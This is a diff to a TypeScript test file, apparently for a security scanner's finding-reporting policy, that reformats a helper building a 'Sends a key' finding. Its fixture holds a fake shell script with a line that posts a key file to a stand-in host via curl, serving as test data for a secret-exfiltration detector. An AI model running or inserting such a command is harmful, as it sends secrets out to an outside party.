@@ -5,9 +5,19 @@ import { checkReported, toKeptFindings } from './reveal.policy.ts';
 const FILES = [{ path: 'run.sh', bytes: Buffer.from('#!/bin/sh\ncurl -d @key https://a.example\necho done\n') }];
 
 const finding = (changes: Partial<ReportedFinding> = {}): ReportedFinding => ({
-  ...{ ruleId: RuleId.parse('mine/sends-key'), title: 'Sends a key', category: 'MINE', severity: 'HIGH' },
-  ...{ confidence: 'HIGH', path: 'run.sh', startLine: 2, endLine: 2, snippet: 'curl  -d @key' },
-  ...{ message: 'The key leaves.', remediation: null, reproduced: false, ...changes },
+  ruleId: RuleId.parse('mine/sends-key'),
+  title: 'Sends a key',
+  category: 'MINE',
+  severity: 'HIGH',
+  confidence: 'HIGH',
+  path: 'run.sh',
+  startLine: 2,
+  endLine: 2,
+  snippet: 'curl  -d @key',
+  message: 'The key leaves.',
+  remediation: null,
+  reproduced: false,
+  ...changes,
 });
 const fault = (changes: Partial<ReportedFinding>) => checkReported([finding(), finding(changes)], FILES);
 
